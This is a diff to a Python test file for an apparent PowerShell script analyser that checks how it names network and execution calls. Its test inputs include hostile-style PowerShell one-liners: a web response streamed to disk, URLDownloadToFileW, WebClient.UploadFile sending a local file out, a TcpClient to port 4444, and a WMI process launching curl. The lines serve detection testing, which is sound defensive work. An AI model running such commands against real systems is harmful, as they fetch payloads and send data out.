@@ -9,6 +9,7 @@ from tidewaiter.reading.invocation import Invocation, Script, Word
 from tidewaiter.reading.powershell import parse
 
 URL = "http://example.com/x"
+CLASS_ID = "{F6D90F16-9C73-11D3-B32E-00C04F990BB4}"
 
 
 def read(text: str) -> Script:
@@ -169,8 +170,8 @@ def test_what_is_fetched_reaches_invoke_expression(text: str, fetch: str) -> Non
             "C:\\y",
         ),
         (
-            "$r=[Net.WebRequest]::Create('{0}').GetResponse().GetResponseStream();$b=New-Object byte[] 64;"
-            "$f=New-Object IO.FileStream 'C:\\y','Create';while(($n=$r.Read($b,0,64)) -gt 0){{$f.Write($b,0,$n)}}",
+            "$b=New-Object byte[] 64;$r=[Net.WebRequest]::Create('{0}').GetResponse().GetResponseStream();"
+            + "$f=New-Object IO.FileStream 'C:\\y','Create';while(($n=$r.Read($b,0,64)) -gt 0){{$f.Write($b,0,$n)}}",
             "system.io.filestream.write",
             "C:\\y",
         ),
@@ -228,15 +229,23 @@ def test_stream_saved_to_file_holds_the_response() -> None:
     ("text", "program", "args"),
     [
         (f"(New-Object -Com Excel.Application).Workbooks.Open('{URL}')", "com:excel.application.workbooks.open", (URL,)),
-        (f"[Activator]::CreateInstance([Type]::GetTypeFromCLSID('{{F6D90F16-9C73-11D3-B32E-00C04F990BB4}}')).Open('GET','{URL}')", "com:msxml2.xmlhttp.open", ("GET", URL)),
+        (
+            f"[Activator]::CreateInstance([Type]::GetTypeFromCLSID('{CLASS_ID}')).Open('GET','{URL}')",
+            "com:msxml2.xmlhttp.open",
+            ("GET", URL),
+        ),
         ("New-Object Net.Sockets.TcpClient('192.0.2.5',4444)", "system.net.sockets.tcpclient.new", ("192.0.2.5", "4444")),
         (f"[W.U]::URLDownloadToFileW(0,'{URL}','C:\\x',0,0)", "urlmon.urldownloadtofile", ("0", URL, "C:\\x", "0", "0")),
         (f"$x=New-Object xml;$x.Load('{URL}')", "system.xml.xmldocument.load", (URL,)),
-        (f"$h=New-Object Net.Http.HttpClient;$h.BaseAddress='{URL}';$h.GetStringAsync('y').Result", "system.net.http.httpclient.getstringasync", ("http://example.com/y",)),
+        (
+            f"$h=New-Object Net.Http.HttpClient;$h.BaseAddress='{URL}';$h.GetStringAsync('y').Result",
+            "system.net.http.httpclient.getstringasync",
+            ("http://example.com/y",),
+        ),
         (f"(New-Object Net.WebClient).UploadFile('{URL}','C:\\s')", "system.net.webclient.uploadfile", (URL, "C:\\s")),
         (f"([wmiclass]'Win32_Process').Create('curl {URL}')", "wmi:win32_process.create", (f"curl {URL}",)),
     ],
-)  # fmt: skip
+)
 def test_methods_have_canonical_names(text: str, program: str, args: tuple[str, ...]) -> None:
     assert only(text, program).args == args
 
@@ -254,7 +263,7 @@ def test_loops_are_cut_after_32_rounds() -> None:
     budget = Budget(cpu_seconds=5)
     script = parse('foreach($i in 1..40){iwr "http://example.com/$i"}', budget)
     assert len(script.invocations) == 32
-    assert "loop cut after 32 rounds" in budget.limits
+    assert "loop cut short" in budget.limits
 
 
 @pytest.mark.parametrize(
